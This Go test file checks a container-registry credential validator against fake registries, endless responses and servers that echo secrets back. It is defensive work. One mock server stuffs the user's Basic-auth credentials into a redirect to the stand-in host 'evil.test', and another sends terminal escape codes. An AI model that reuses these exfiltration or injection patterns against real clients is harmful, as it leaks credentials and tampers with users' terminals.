package validate_test

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"oreg/inventory"
	"oreg/inventory/secret"
	"oreg/validate"
)

// TestV9_NotARegistry: a real v2 answer is asked for, not just any 200.
func TestV9_NotARegistry(t *testing.T) {
	page := func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<html><title>Welcome to our hotel</title></html>")
	}
	asks := func(headers ...string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			for _, h := range headers {
				w.Header().Add("WWW-Authenticate", h)
			}
			w.WriteHeader(http.StatusUnauthorized)
		}
	}
	not := func(name string, h http.HandlerFunc, words string) behaviour {
		return behaviour{name: name, serve: basic(h), status: failed, login: untested, pull: notAsked, cause: validate.CauseNotARegistry,
			also: func(t *testing.T, _ *fabric, r validate.Result) { assert.Contains(t, r.Detail, words) }}
	}
	runBehaviours(t, []behaviour{
		not("captive portal", page, "as a web site does (text/html)"),
		not("captive portal by redirect", http.RedirectHandler("https://login.hotel.test/?from=reg.test", http.StatusFound).ServeHTTP, "redirects /v2/ to https://login.hotel.test"),
		not("404", http.NotFound, "HTTP 404"),
		not("403", status(http.StatusForbidden, "DENIED"), "HTTP 403, DENIED: because"),
		not("410", status(http.StatusGone, "X"), "HTTP 410"),
		not("401 that asks for nothing", asks(), "without saying what login"),
		not("a kind of login we do not have", asks("Negotiate"), "negotiate"),
		not("an empty challenge", asks(""), "without saying what login"),
		{name: "a page once logged in", serve: basic(func(w http.ResponseWriter, r *http.Request) {
			if rightLogin(r) {
				page(w, r)
				return
			}
			basicRegistry(w, r)
		}), status: failed, login: untested, pull: notAsked, cause: validate.CauseNotARegistry, authenticated: 1, passwords: 1},
		{name: "an empty 200 everywhere", serve: basic(func(http.ResponseWriter, *http.Request) {}),
			status: failed, login: unproven, pull: notAsked, cause: validate.CauseNotARegistry},
		{name: "a page for the image of an open registry", serve: basic(openPing(page)),
			status: failed, login: unproven, pull: notAsked, cause: validate.CauseNotARegistry},
		{name: "quay.io's body", serve: basic(func(w http.ResponseWriter, r *http.Request) {
			if rightLogin(r) && isPing(r) {
				_, _ = io.WriteString(w, "true")
				return
			}
			basicRegistry(w, r)
		}), status: valid, login: proven, pull: pulled, authenticated: 2, passwords: 2},
	})
}

// endless writes until the client has enough.
func endless(chunk string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodHead {
			return
		}
		block := strings.Repeat(chunk, 1<<12)
		for r.Context().Err() == nil {
			if _, err := io.WriteString(w, block); err != nil {
				return
			}
		}
	}
}

// TestV11_HugeAnswers: no server makes us read for ever, or keep what it sends.
func TestV11_HugeAnswers(t *testing.T) {
	runBehaviours(t, []behaviour{
		{name: "body of /v2/", serve: basic(endless("x")), status: failed, login: untested, pull: notAsked, cause: validate.CauseNotARegistry, also: between(0, 0)},
		{name: "body of an error", serve: basic(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
			w.WriteHeader(http.StatusUnauthorized)
			endless("x")(w, r)
		}), status: invalid, login: rejected, pull: notAsked, cause: validate.CauseBadCredentials, authenticated: 1, passwords: 1},
		{name: "headers", serve: basic(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("X-Long", strings.Repeat("x", 1<<20))
		}), status: failed, login: untested, pull: notAsked, cause: validate.CauseNotARegistry},
		{name: "token", serve: bearer(bearerWith(manifests), endless("x")),
			status: failed, login: untested, pull: notAsked, cause: validate.CauseRealmFailed, authenticated: 1, passwords: 1},
		{name: "manifest", serve: basic(basicWith(endless("x"))),
			status: failed, login: proven, pull: notAsked, cause: validate.CauseNotARegistry, authenticated: 3, passwords: 3,
			also: func(t *testing.T, _ *fabric, r validate.Result) { assert.Contains(t, r.Detail, "more than 4 MiB") }},
		{name: "challenge", serve: basic(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("WWW-Authenticate", `Bearer realm="https://auth.test/`+strings.Repeat("a", 60<<10)+`"`)
			w.WriteHeader(http.StatusUnauthorized)
		}), status: failed, login: untested, pull: notAsked, cause: validate.CauseRealmFailed},
	})
}

// TestO2_ServerTextIsMasked: a server that gives back what it was sent, in any
// of the ways that servers do, gives nothing away through us; a password that
// is also a word of ours does not eat our own messages.
func TestO2_ServerTextIsMasked(t *testing.T) {
	echo := func(text func(r *http.Request) (code, message string)) func(*fabric) {
		return basic(func(w http.ResponseWriter, r *http.Request) {
			if !loggedIn(r) {
				basicRegistry(w, r)
				return
			}
			code, message := text(r)
			problem(w, http.StatusUnauthorized, code, message)
		})
	}
	shows := func(words string) func(*testing.T, *fabric, validate.Result) {
		return func(t *testing.T, _ *fabric, r validate.Result) { assert.Contains(t, r.Detail, words) }
	}
	bad := func(name string, serve func(*fabric), also func(*testing.T, *fabric, validate.Result)) behaviour {
		return behaviour{name: name, serve: serve, bad: true, also: also,
			status: invalid, login: rejected, pull: notAsked, cause: validate.CauseBadCredentials, authenticated: 1, passwords: 1}
	}
	runBehaviours(t, []behaviour{
		bad("the password", echo(func(r *http.Request) (string, string) {
			user, password, _ := r.BasicAuth()
			return "UNAUTHORIZED", fmt.Sprintf("no user %s with password %s", user, password)
		}), shows("no user lab|svc with password "+secret.Redacted)),
		bad("the header", echo(func(r *http.Request) (string, string) {
			return "UNAUTHORIZED", "got " + r.Header.Get("Authorization")
		}), shows("got Basic "+secret.Redacted)),
		bad("the password as code", echo(func(r *http.Request) (string, string) {
			_, password, _ := r.BasicAuth()
			return password, ""
		}), shows(secret.Redacted)),
		bad("the password around control characters", echo(func(r *http.Request) (string, string) {
			_, password, _ := r.BasicAuth()
			return "UNAUTHORIZED", password[:4] + "\x00\u200b\x1b" + password[4:]
		}), shows(secret.Redacted)),
		// Another entry's password, which this registry has from elsewhere.
		{name: "the secret of another entry", serve: echo(func(*http.Request) (string, string) {
			return "UNAUTHORIZED", "that is not an0ther-entry's"
		}), bad: true, options: func(o *validate.Options) { o.Masker = secret.NewMasker(secret.New("an0ther-entry")) },
			also:   shows("that is not " + secret.Redacted + "'s"),
			status: invalid, login: rejected, pull: notAsked, cause: validate.CauseBadCredentials, authenticated: 1, passwords: 1},
		bad("the password at the cut", echo(func(r *http.Request) (string, string) {
			_, password, _ := r.BasicAuth()
			return "UNAUTHORIZED", strings.Repeat("x", 180) + password
		}), nil),
		bad("terminal codes", echo(func(*http.Request) (string, string) {
			return "UNAUTHORIZED", "\x1b[2J\x1b]0;title\x07a\u202eb\r\nc"
		}), shows("[2J]0;titleab c")),
		bad("as plain text", basic(func(w http.ResponseWriter, r *http.Request) {
			if !loggedIn(r) {
				basicRegistry(w, r)
				return
			}
			w.Header().Set("Content-Type", "text/plain")
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = io.WriteString(w, "go away, "+r.Header.Get("Authorization"))
		}), shows("go away, Basic "+secret.Redacted)),
		bad("as a page", basic(func(w http.ResponseWriter, r *http.Request) {
			if !loggedIn(r) {
				basicRegistry(w, r)
				return
			}
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = io.WriteString(w, "<p>"+r.Header.Get("Authorization"))
		}), func(t *testing.T, _ *fabric, r validate.Result) { assert.NotContains(t, r.Detail, "<p>") }),
		{name: "a token", serve: bearer(bearerWith(func(w http.ResponseWriter, r *http.Request) {
			problem(w, http.StatusForbidden, "DENIED", "token "+r.Header.Get("Authorization"))
		}), tokens), named: true, status: invalid, login: proven, pull: denied, cause: validate.CauseNoAccess, authenticated: 4, passwords: 2},
		{name: "the password in a redirect", serve: basic(func(w http.ResponseWriter, r *http.Request) {
			if !loggedIn(r) {
				basicRegistry(w, r)
				return
			}
			raw := strings.TrimPrefix(r.Header.Get("Authorization"), "Basic ")
			decoded, _ := base64.StdEncoding.DecodeString(raw)
			w.Header().Set("Location", "https://"+strings.NewReplacer("=", "", "/", "", "+", "").Replace(raw)+".evil.test/?"+fmt.Sprintf("%x", decoded))
			w.WriteHeader(http.StatusFound)
		}), status: failed, login: untested, pull: notAsked, cause: validate.CauseNotARegistry, authenticated: 1, passwords: 1},
		{name: "a password that is a word of ours", serve: basic(basicRegistry),
			change: func(c *inventory.Credential) { c.User, c.Password = "someone", secret.New("rejects the login") },
			status: invalid, login: rejected, pull: notAsked, cause: validate.CauseBadCredentials, authenticated: 1, passwords: 1,
			also: shows("reg.test rejects the login of someone")},
	})
}
